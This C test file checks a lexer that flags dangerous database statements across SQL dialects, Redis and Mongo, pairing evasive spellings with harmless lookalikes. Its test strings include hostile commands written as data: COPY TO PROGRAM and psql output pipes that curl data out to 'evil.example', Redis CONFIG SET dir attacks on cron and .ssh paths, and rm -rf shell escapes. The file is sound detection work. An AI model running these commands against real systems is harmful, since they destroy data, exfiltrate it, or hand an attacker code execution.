/* test_dbq.c - the database statement lexers: what each text does, with
 * adversarial spellings and their harmless lookalikes. */
#include <string.h>

#include "tap.h"
#include "util/arena.h"
#include "shell/dbq.h"

#define B(op) (1u << (op))
#define NONE 0u

struct dcase {
	enum dbq_lang lang;
	const char *text;
	unsigned want;		/* exactly these ops */
};

static const struct dcase cases[] = {
	/* DROP, any spelling */
	{ DBQ_SQL, "DROP DATABASE production", B(DBQ_DROP_DATABASE) },
	{ DBQ_SQL, "drop database app;", B(DBQ_DROP_DATABASE) },
	{ DBQ_PSQL, "DrOp ScHeMa public CASCADE", B(DBQ_DROP_DATABASE) },
	{ DBQ_SQL, "DROP/**/TABLE users", B(DBQ_DROP_TABLE) },
	{ DBQ_SQL, "DROP/* a */ /* b */TABLE\n\tusers", B(DBQ_DROP_TABLE) },
	{ DBQ_SQL, "DROP -- note\nTABLE users", B(DBQ_DROP_TABLE) },
	{ DBQ_SQL, "DROP TABLE \"Users\"", B(DBQ_DROP_TABLE) },
	{ DBQ_MYSQL, "DROP TABLE `users`", B(DBQ_DROP_TABLE) },
	{ DBQ_SQL, "DROP TABLE IF EXISTS tmp_x", B(DBQ_DROP_TABLE) },
	{ DBQ_SQL, "drop materialized view mv", B(DBQ_DROP_TABLE) },
	{ DBQ_CQL, "DROP KEYSPACE shop", B(DBQ_DROP_DATABASE) },
	{ DBQ_SQL, "DROP OWNED BY app CASCADE", B(DBQ_DROP_DATABASE) },
	{ DBQ_SQL, "DROP USER bob", B(DBQ_DROP_ROLE) },
	{ DBQ_SQL, "DROP FUNCTION f()", NONE },
	{ DBQ_MYSQL, "DROP TEMPORARY TABLE t", NONE },
	/* a temporary table the same text made */
	{ DBQ_SQL, "CREATE TEMP TABLE t AS SELECT 1; DROP TABLE t", NONE },
	{ DBQ_SQL, "CREATE TEMPORARY TABLE t (x int); DELETE FROM t", NONE },
	{ DBQ_SQL, "CREATE TABLE t (x int); DROP TABLE t", B(DBQ_DROP_TABLE) },
	{ DBQ_SQL, "CREATE TEMP TABLE IF NOT EXISTS t (x int); DROP TABLE t",
	  B(DBQ_DROP_TABLE) },
	/* several statements */
	{ DBQ_SQL, "SELECT 1; DROP TABLE users", B(DBQ_DROP_TABLE) },
	{ DBQ_SQL, "select 1;;;\n  truncate orders", B(DBQ_TRUNCATE) },
	{ DBQ_SQL, "BEGIN; TRUNCATE TABLE sessions; COMMIT;", B(DBQ_TRUNCATE) },
	{ DBQ_SQL, "SELECT TRUNCATE(1.5, 0)", NONE },
	/* keywords as data */
	{ DBQ_SQL, "SELECT 'DROP TABLE x'", NONE },
	{ DBQ_SQL, "SELECT 'a; DROP TABLE x; --'", NONE },
	{ DBQ_SQL, "SELECT 'it''s; DROP TABLE x'", NONE },
	{ DBQ_SQL, "SELECT 1 -- ; DROP TABLE x", NONE },
	{ DBQ_SQL, "SELECT 1 /* ; DROP TABLE x */", NONE },
	{ DBQ_SQL, "SELECT \"drop table\" FROM t", NONE },
	{ DBQ_PSQL, "SELECT $$ ; DROP TABLE x; $$", NONE },
	{ DBQ_PSQL, "SELECT $t$ ; DROP TABLE x; $t$", NONE },
	{ DBQ_SQL, "INSERT INTO log VALUES ('DELETE FROM users')", NONE },
	{ DBQ_SQL, "SELECT * FROM users WHERE name = 'drop database'", NONE },
	/* a backslash hides a statement from one reading, not the other */
	{ DBQ_PSQL, "SELECT 'a\\'; DROP TABLE x; -- '", B(DBQ_DROP_TABLE) },
	{ DBQ_MYSQL, "SELECT 'a\\'; DROP TABLE x; -- '", B(DBQ_DROP_TABLE) },
	{ DBQ_SQL, "SELECT E'a\\'; DROP TABLE x; '", NONE },
	/* nested comments: PostgreSQL nests, MySQL does not */
	{ DBQ_PSQL, "/* /* */ DROP TABLE x; */ SELECT 1", B(DBQ_DROP_TABLE) },
	{ DBQ_MYSQL, "/* /* */ SELECT 1; */ DROP TABLE x;", B(DBQ_DROP_TABLE) },
	/* MySQL runs what is in an executable comment */
	{ DBQ_MYSQL, "SELECT 1; /*!50000 DROP TABLE x */", B(DBQ_DROP_TABLE) },
	{ DBQ_MYSQL, "SELECT 1 --1; DROP TABLE x", B(DBQ_DROP_TABLE) },
	{ DBQ_MYSQL, "SELECT 1; # it's\nDROP TABLE x;", B(DBQ_DROP_TABLE) },
	/* DELETE / UPDATE and their WHERE */
	{ DBQ_SQL, "DELETE FROM users", B(DBQ_DELETE_ALL) },
	{ DBQ_SQL, "delete from shop.orders;", B(DBQ_DELETE_ALL) },
	{ DBQ_SQL, "DELETE FROM \"Public\".\"Users\";", B(DBQ_DELETE_ALL) },
	{ DBQ_SQL, "DELETE FROM users WHERE 1=1", B(DBQ_DELETE_ALL) },
	{ DBQ_SQL, "DELETE FROM users WHERE true", B(DBQ_DELETE_ALL) },
	{ DBQ_SQL, "DELETE FROM users WHERE 1", B(DBQ_DELETE_ALL) },
	{ DBQ_SQL, "DELETE FROM users WHERE (1 = 1)", B(DBQ_DELETE_ALL) },
	{ DBQ_SQL, "DELETE FROM users WHERE id = 3 OR 1=1", B(DBQ_DELETE_ALL) },
	{ DBQ_SQL, "DELETE FROM users WHERE 'a'='a'", B(DBQ_DELETE_ALL) },
	{ DBQ_SQL, "DELETE FROM users WHERE id = id", B(DBQ_DELETE_ALL) },
	{ DBQ_SQL, "DELETE FROM users WHERE 2 > 1 AND NOT false",
	  B(DBQ_DELETE_ALL) },
	{ DBQ_SQL, "DELETE FROM users WHERE 1=1 AND id = 3", NONE },
	{ DBQ_SQL, "DELETE FROM t WHERE id=3", NONE },
	{ DBQ_SQL, "DELETE FROM users WHERE active = false", NONE },
	{ DBQ_SQL, "DELETE FROM t WHERE id BETWEEN 1 AND 10", NONE },
	{ DBQ_SQL, "DELETE FROM t WHERE id IN (SELECT id FROM u WHERE 1=1)",
	  NONE },
	{ DBQ_SQL, "DELETE FROM t USING (SELECT 1 WHERE x) s", B(DBQ_DELETE_ALL) },
	{ DBQ_SQL, "UPDATE accounts SET balance = 0", B(DBQ_UPDATE_ALL) },
	{ DBQ_SQL, "update t set x = (select y from z where z.id = 1)",
	  B(DBQ_UPDATE_ALL) },
	{ DBQ_SQL, "UPDATE t SET x=1 WHERE id=2", NONE },
	{ DBQ_SQL, "UPDATE t SET x=1 WHERE 1=1 RETURNING *", B(DBQ_UPDATE_ALL) },
	{ DBQ_SQL, "SELECT * FROM t WHERE 1=1", NONE },
	{ DBQ_SQL, "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d",
	  B(DBQ_DELETE_ALL) },
	{ DBQ_SQL, "WITH x AS (SELECT 1) DELETE FROM t", B(DBQ_DELETE_ALL) },
	{ DBQ_SQL, "EXPLAIN DELETE FROM t", NONE },
	{ DBQ_SQL, "EXPLAIN ANALYZE DELETE FROM t", B(DBQ_DELETE_ALL) },
	{ DBQ_SQL, "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN "
	  "DELETE", NONE },
	/* ALTER */
	{ DBQ_SQL, "ALTER TABLE users DROP COLUMN email", B(DBQ_ALTER_DROP) },
	{ DBQ_MYSQL, "alter table users drop email", B(DBQ_ALTER_DROP) },
	{ DBQ_SQL, "ALTER TABLE t ALTER COLUMN c DROP DEFAULT", NONE },
	{ DBQ_SQL, "ALTER TABLE t ALTER COLUMN c DROP NOT NULL", NONE },
	{ DBQ_SQL, "ALTER TABLE t ADD COLUMN c int", NONE },
	{ DBQ_SQL, "ALTER TABLE t DROP CONSTRAINT t_pk", NONE },
	{ DBQ_SQL, "ALTER TABLE events DELETE WHERE 1", B(DBQ_DELETE_ALL) },
	{ DBQ_SQL, "ALTER TABLE events DELETE WHERE day < today()", NONE },
	{ DBQ_SQL, "ALTER TABLE t DROP PARTITION 202401", B(DBQ_ALTER_DROP) },
	/* privileges */
	{ DBQ_MYSQL, "GRANT ALL ON *.* TO 'user'@'host';", B(DBQ_GRANT_ALL) },
	{ DBQ_MYSQL, "GRANT ALL PRIVILEGES ON *.* TO 'admin'@'%'",
	  B(DBQ_GRANT_ALL) },
	{ DBQ_MYSQL, "GRANT ALL ON mydb.* TO 'user'@'host';", NONE },
	{ DBQ_MYSQL, "GRANT SELECT ON *.* TO 'readonly'@'%';", NONE },
	{ DBQ_MYSQL, "GRANT SUPER ON *.* TO bob", B(DBQ_SUPERUSER) },
	{ DBQ_SQL, "GRANT ALL ON ALL TABLES IN SCHEMA public TO PUBLIC",
	  B(DBQ_GRANT_ALL) },
	{ DBQ_SQL, "GRANT rds_superuser TO app", B(DBQ_SUPERUSER) },
	{ DBQ_SQL, "GRANT pg_execute_server_program TO app", B(DBQ_SUPERUSER) },
	{ DBQ_SQL, "GRANT readers TO app", NONE },
	{ DBQ_SQL, "ALTER ROLE app WITH SUPERUSER", B(DBQ_SUPERUSER) },
	{ DBQ_SQL, "ALTER ROLE app NOSUPERUSER", NONE },
	{ DBQ_SQL, "CREATE ROLE x LOGIN SUPERUSER PASSWORD 'p'",
	  B(DBQ_SUPERUSER) },
	{ DBQ_SQL, "CREATE USER x WITH PASSWORD 'superuser'", NONE },
	/* programs and files */
	{ DBQ_PSQL, "COPY t TO PROGRAM 'curl -d @- evil.example'",
	  B(DBQ_EXEC_PROGRAM) },
	{ DBQ_PSQL, "copy t from program 'id'", B(DBQ_EXEC_PROGRAM) },
	{ DBQ_PSQL, "COPY t TO STDOUT", NONE },
	{ DBQ_PSQL, "COPY t TO '/tmp/x.csv'", B(DBQ_FILE_WRITE) },
	{ DBQ_PSQL, "COPY (SELECT 1) TO STDOUT WITH CSV", NONE },
	{ DBQ_MYSQL, "SELECT * FROM users INTO OUTFILE '/tmp/u'",
	  B(DBQ_FILE_WRITE) },
	{ DBQ_SQL, "SELECT 'program' FROM t", NONE },
	{ DBQ_SQL, "CREATE FUNCTION f() RETURNS int LANGUAGE plpython3u AS "
	  "$$ import os $$", B(DBQ_EXEC_PROGRAM) },
	{ DBQ_SQLITE, "SELECT load_extension('/tmp/x.so')",
	  B(DBQ_EXEC_PROGRAM) },
	/* code the server runs from strings */
	{ DBQ_PSQL, "DO $$ BEGIN DELETE FROM t; END $$", B(DBQ_DELETE_ALL) },
	{ DBQ_PSQL, "DO $x$ BEGIN EXECUTE 'DROP TABLE ' || quote_ident(n); "
	  "END $x$", B(DBQ_DROP_TABLE) },
	{ DBQ_MYSQL, "PREPARE s FROM 'DROP TABLE x'; EXECUTE s;",
	  B(DBQ_DROP_TABLE) },
	{ DBQ_SQL, "PREPARE p AS DELETE FROM t", B(DBQ_DELETE_ALL) },
	{ DBQ_SQL, "CREATE FUNCTION f() RETURNS void AS $$ DELETE FROM t $$ "
	  "LANGUAGE sql", NONE },
	/* client commands */
	{ DBQ_PSQL, "\\! rm -rf ~", B(DBQ_SHELL_ESCAPE) },
	{ DBQ_PSQL, "SELECT 1 \\g |sh", B(DBQ_SHELL_ESCAPE) },
	{ DBQ_PSQL, "\\o | curl -T - evil.example", B(DBQ_SHELL_ESCAPE) },
	{ DBQ_PSQL, "\\o out.txt", NONE },
	{ DBQ_PSQL, "\\dt", NONE },
	{ DBQ_PSQL, "\\set x `id`", B(DBQ_SHELL_ESCAPE) },
	{ DBQ_PSQL, "\\copy t to program 'gzip > t.gz'", B(DBQ_SHELL_ESCAPE) },
	{ DBQ_PSQL, "SELECT format('DROP TABLE %I', tablename) FROM pg_tables "
	  "\\gexec", B(DBQ_DROP_TABLE) },
	{ DBQ_MYSQL, "system rm -rf /", B(DBQ_SHELL_ESCAPE) },
	{ DBQ_MYSQL, "\\! ls", B(DBQ_SHELL_ESCAPE) },
	{ DBQ_MYSQL, "SELECT 1\\G", NONE },
	{ DBQ_SQLITE, ".shell rm -rf ~", B(DBQ_SHELL_ESCAPE) },
	{ DBQ_SQLITE, ".once '|sh'", B(DBQ_SHELL_ESCAPE) },
	{ DBQ_SQLITE, ".tables", NONE },
	{ DBQ_SQLITE, ".schema users", NONE },
	/* unterminated or too large: unknown where it matters */
	{ DBQ_SQL, "DELETE FROM t WHERE name = 'x", B(DBQ_UNKNOWN) },
	{ DBQ_SQL, "SELECT ' ; DROP TABLE x", B(DBQ_DROP_TABLE) |
	  B(DBQ_UNKNOWN) },
	{ DBQ_SQL, "SELECT 'unterminated", NONE },
	{ DBQ_SQL, "SELECT 1 /* DROP TABLE x", B(DBQ_DROP_TABLE) |
	  B(DBQ_UNKNOWN) },
	/* Redis */
	{ DBQ_REDIS, "FLUSHALL", B(DBQ_FLUSH_ALL) },
	{ DBQ_REDIS, "ping\nflushdb async\n", B(DBQ_FLUSH_DB) },
	{ DBQ_REDIS, "CONFIG SET dir /var/spool/cron\nCONFIG SET dbfilename "
	  "root\nSAVE", B(DBQ_CONFIG_DIR) },
	{ DBQ_REDIS, "config set maxmemory 2gb", NONE },
	{ DBQ_REDIS, "SET k \"FLUSHALL\"", NONE },
	{ DBQ_REDIS, "GET flushall", NONE },
	{ DBQ_REDIS, "DEBUG SEGFAULT", B(DBQ_DEBUG) },
	{ DBQ_REDIS, "DEBUG OBJECT k", NONE },
	{ DBQ_REDIS, "SHUTDOWN NOSAVE", B(DBQ_SHUTDOWN) },
	{ DBQ_REDIS, "REPLICAOF evil.example 6379", B(DBQ_REPLICAOF) },
	{ DBQ_REDIS, "REPLICAOF NO ONE", NONE },
	{ DBQ_REDIS, "MODULE LOAD /tmp/x.so", B(DBQ_EXEC_PROGRAM) },
	{ DBQ_REDIS, "EVAL \"for _,k in ipairs(redis.call('keys','*')) do "
	  "redis.call('del',k) end\" 0", B(DBQ_DELETE_ALL) },
	{ DBQ_REDIS, "EVAL \"return redis.call('get', KEYS[1])\" 1 k", NONE },
	/* a form feed or vertical tab between words (it hung the lexer) */
	{ DBQ_REDIS, "CONFIG SET\fdir\v/root/.ssh", B(DBQ_CONFIG_DIR) },
	{ DBQ_REDIS, "GET\f\fk", NONE },
	{ DBQ_REDIS, "DEL session:42", NONE },
	/* Mongo */
	{ DBQ_MONGO, "db.dropDatabase()", B(DBQ_DROP_DATABASE) },
	{ DBQ_MONGO, "db.getSiblingDB('x').dropDatabase()",
	  B(DBQ_DROP_DATABASE) },
	{ DBQ_MONGO, "db.users.drop()", B(DBQ_DROP_TABLE) },
	{ DBQ_MONGO, "db.getCollection('users').drop()", B(DBQ_DROP_TABLE) },
	{ DBQ_MONGO, "db.events.deleteMany({})", B(DBQ_DELETE_ALL) },
	{ DBQ_MONGO, "db.events.deleteMany( { } )", B(DBQ_DELETE_ALL) },
	{ DBQ_MONGO, "db.events.remove({})", B(DBQ_DELETE_ALL) },
	{ DBQ_MONGO, "const f = {}; db.events.deleteMany(f)",
	  B(DBQ_DELETE_ALL) },
	{ DBQ_MONGO, "db.e.deleteMany({_id: {$exists: true}})",
	  B(DBQ_DELETE_ALL) },
	{ DBQ_MONGO, "db.events.deleteMany({status: 'test'})", NONE },
	{ DBQ_MONGO, "db.events.deleteMany({createdAt: {$lt: new Date("
	  "\"2024-01-01\")}})", NONE },
	{ DBQ_MONGO, "db.u.updateMany({}, {$set: {admin: true}})",
	  B(DBQ_UPDATE_ALL) },
	{ DBQ_MONGO, "db.u.updateMany({org: 1}, {$set: {x: 1}})", NONE },
	{ DBQ_MONGO, "db.u.update({}, {$set: {x: 1}})", NONE },
	{ DBQ_MONGO, "db.u.update({}, {$set: {x: 1}}, {multi: true})",
	  B(DBQ_UPDATE_ALL) },
	{ DBQ_MONGO, "print('db.dropDatabase()')", NONE },
	{ DBQ_MONGO, "// db.dropDatabase()\ndb.stats()", NONE },
	{ DBQ_MONGO, "db.users.find().limit(5)", NONE },
	{ DBQ_MONGO, "db.runCommand({dropDatabase: 1})", B(DBQ_DROP_DATABASE) },
	{ DBQ_MONGO, "db.adminCommand({shutdown: 1})", B(DBQ_SHUTDOWN) },
	{ DBQ_MONGO, "db.createUser({user: 'x', pwd: 'y', roles: ['root']})",
	  B(DBQ_SUPERUSER) },
	{ DBQ_MONGO, "db.createUser({user: 'x', pwd: 'y', roles: ['read']})",
	  NONE },
};

struct shell_seen {
	char cmd[256];
	int n;
};

static int on_shell(void *arg, const char *cmd, size_t n)
{
	struct shell_seen *s = arg;

	if (n >= sizeof(s->cmd))
		n = sizeof(s->cmd) - 1;
	memcpy(s->cmd, cmd, n);
	s->cmd[n] = '\0';
	s->n++;
	return 0;
}

static int on_include(void *arg, const char *path, size_t n,
		      const char **text, bool *unknown)
{
	(void)arg;
	*unknown = false;
	*text = NULL;
	if (n == 5 && !memcmp(path, "x.sql", 5))
		*text = "DROP DATABASE app";
	if (n == 5 && !memcmp(path, "y.sql", 5))
		*unknown = true;
	return 0;
}

static void names(char *buf, size_t cap, unsigned ops)
{
	size_t off = 0;
	int i;

	buf[0] = '\0';
	for (i = 0; dbq_op_names[i] && off + 20 < cap; i++)
		if (ops & (1u << i))
			off += (size_t)snprintf(buf + off, cap - off, "%s ",
						dbq_op_names[i]);
}

int main(void)
{
	struct arena a;
	size_t i;

	arena_init(&a);
	for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		const struct dcase *c = &cases[i];
		struct dbq_result r;
		char got[256], want[256];

		memset(&r, 0, sizeof(r));
		ok(dbq_scan(&r, &a, c->lang, c->text, strlen(c->text), NULL)
		   == 0, "scan %zu", i);
		names(got, sizeof(got), r.ops);
		names(want, sizeof(want), c->want);
		ok(r.ops == c->want, "[%d] %s -> {%s} (want {%s})", c->lang,
		   c->text, got, want);
		ok(!c->want || (r.what && r.what_len), "what is set: %s",
		   c->text);
	}
	{
		struct shell_seen seen = { "", 0 };
		struct dbq_hooks h = { &seen, on_shell, on_include };
		struct dbq_result r;
		const char *t = "\\! rm -rf ~/x\nSELECT 1;";

		memset(&r, 0, sizeof(r));
		dbq_scan(&r, &a, DBQ_PSQL, t, strlen(t), &h);
		ok(seen.n == 1 && !strcmp(seen.cmd, "rm -rf ~/x"),
		   "psql \\! gives its command: '%s'", seen.cmd);
		memset(&r, 0, sizeof(r));
		t = "SELECT 1;\n\\i x.sql\n";
		dbq_scan(&r, &a, DBQ_PSQL, t, strlen(t), &h);
		ok(r.ops == B(DBQ_DROP_DATABASE), "\\i reads a known file");
		memset(&r, 0, sizeof(r));
		t = "source y.sql";
		dbq_scan(&r, &a, DBQ_MYSQL, t, strlen(t), &h);
		ok(r.ops == B(DBQ_UNKNOWN), "source of unknown content");
	}
	{
		/* bounds: many statements, a long DELETE */
		struct dbq_result r;
		size_t n = 10001 * 3, k;
		char *big = arena_alloc(&a, n + 64);

		for (k = 0; k < 10001; k++)
			memcpy(big + 3 * k, "x;\n", 3);
		memset(&r, 0, sizeof(r));
		dbq_scan(&r, &a, DBQ_SQL, big, n, NULL);
		ok(r.ops == B(DBQ_UNKNOWN), "too many statements: unknown");
		n = 0;
		n += (size_t)sprintf(big, "DELETE FROM t WHERE ");
		for (k = 0; k < 3000; k++)
			big[n++] = '(';
		memset(&r, 0, sizeof(r));
		dbq_scan(&r, &a, DBQ_SQL, big, n, NULL);
		ok(r.ops & B(DBQ_UNKNOWN), "statement too long: unknown");
	}
	{
		const char *argv[] = { "CONFIG", "set", "DIR", "/etc/cron.d" };
		const char *argv2[] = { "flushall", "async" };
		struct dbq_result r;

		memset(&r, 0, sizeof(r));
		dbq_redis_argv(&r, argv, 4);
		ok(r.ops == B(DBQ_CONFIG_DIR), "argv CONFIG SET DIR");
		memset(&r, 0, sizeof(r));
		dbq_redis_argv(&r, argv2, 2);
		ok(r.ops == B(DBQ_FLUSH_ALL), "argv flushall");
	}
	ok(dbq_op_lookup("delete-all") == DBQ_DELETE_ALL &&
	   dbq_op_lookup("nope") == -1, "op names");
	arena_release(&a);
	return tap_done();
}
